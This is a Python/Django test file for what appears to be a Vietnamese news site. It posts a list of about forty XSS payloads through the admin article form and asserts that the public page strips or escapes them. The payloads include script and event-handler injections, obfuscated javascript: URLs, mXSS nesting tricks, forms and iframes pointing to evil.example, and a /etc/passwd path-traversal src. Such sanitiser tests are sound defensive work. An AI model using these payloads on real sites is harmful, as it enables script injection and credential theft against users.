"""A corpus of script-injection attempts goes through the admin form; none survives into the public page."""

import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from news.models import Article
from portal import roles
from portal.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from tests import factories

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(2)</sCrIpT>",
    '<img src=x onerror="alert(3)">',
    "<img src=/media/a.jpg ONERROR=alert(4)>",
    '<img src="javascript:alert(5)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="https://evil.example/track.gif" alt="theo dõi">',
    '<a href="javascript:alert(6)">bấm</a>',
    '<a href="JaVaScRiPt:alert(7)">bấm</a>',
    '<a href="&#106;avascript:alert(8)">bấm</a>',
    '<a href="&#x6A;&#x61;vascript&#58;alert(9)">bấm</a>',
    '<a href="java\tscript:alert(10)">bấm</a>',
    '<a href="data:text/html,<script>alert(11)</script>">bấm</a>',
    '<a href="vbscript:msgbox(12)">bấm</a>',
    '<svg onload="alert(13)"><circle r="4"/></svg>',
    "<svg><script>alert(14)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)></style></mglyph></table></mtext></math>",
    "<style>body{background:url(javascript:alert(16))}</style>",
    '<p style="background:url(javascript:alert(17))">kiểu</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(18)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example/"><input name="mat_khau"><button formaction="javascript:alert(19)">Gửi</button></form>',
    '<details open ontoggle="alert(20)">x</details>',
    '<body onload="alert(21)">',
    '<div onmouseover="alert(22)">di chuột</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<scr<script>ipt>alert(23)</script>",
    "<<img src=x onerror=alert(24)//<",
    '<img """><script>alert(25)</script>">',
    "<!--<img src=x onerror=alert(26)>-->",
    "<![CDATA[<script>alert(27)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(28)>"></noscript>',
    '<a href="https://example.vn" target="_blank" onclick="alert(29)">liên kết thường</a>',
    '<p class="x" id="y" data-x="1">đoạn có thuộc tính lạ</p>',
    '<table><tr><td background="javascript:alert(30)">ô</td></tr></table>',
    '<video><source onerror="alert(31)"></video><audio src=x onerror=alert(32)>',
    '<img src="/media/../../etc/passwd">',
]


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def prose_of(html):
    match = re.search(
        r'<div class="prose">(.*?)</div>\s*(?:<p class="byline"|<div class="share")', html, re.S
    )
    assert match, "the article body is on the page"
    return match.group(1)


@pytest.mark.django_db
def test_no_payload_survives_from_the_admin_form_to_the_public_page():
    editor = factories.staff_user(roles.EDITOR)
    category = factories.category()
    client = Client()
    client.force_login(editor)
    body = "<p>Mở đầu bài viết.</p>" + "".join(f"<p>{p}</p>" for p in PAYLOADS) + "<p>Kết thúc bài viết.</p>"
    response = client.post(
        "/quan-tri/news/article/add/",
        {
            "title": "Bài thử tấn công",
            "category": category.pk,
            "summary": "<script>alert('tóm tắt')</script>",
            "body": body,
            "status": "da-xuat-ban",
            "_xuat_ban": "1",
            "events-TOTAL_FORMS": "0",
            "events-INITIAL_FORMS": "0",
            "events-MIN_NUM_FORMS": "0",
            "events-MAX_NUM_FORMS": "0",
        },
    )
    assert response.status_code == 302
    article = Article.objects.get()
    page = Client().get(article.get_absolute_url()).content.decode()
    prose = prose_of(page)
    assert "Mở đầu bài viết." in prose and "Kết thúc bài viết." in prose
    assert "liên kết thường" in prose  # harmless content stays

    parser = Collector()
    parser.feed(prose)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name)
            if name == "href":
                assert re.match(r"(https?:|mailto:|tel:|/|#)", value), value
            if name == "src":
                assert value.startswith("/media/") and ".." not in value, value
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer"
    # the summary is plain text, shown escaped
    assert "<script>alert('tóm tắt')</script>" not in page
    assert "&lt;script&gt;alert(&#x27;tóm tắt&#x27;)&lt;/script&gt;" in page
    # nothing executable anywhere on the page besides our own script and JSON-LD
    scripts = re.findall(r"<script\b[^>]*>", page)
    assert all('src="/static/' in s or 'type="application/ld+json"' in s for s in scripts), scripts
    assert "alert(" not in re.sub(r"&[a-z#0-9]+;", "", "".join(re.findall(r"<[^>]+>", prose)))
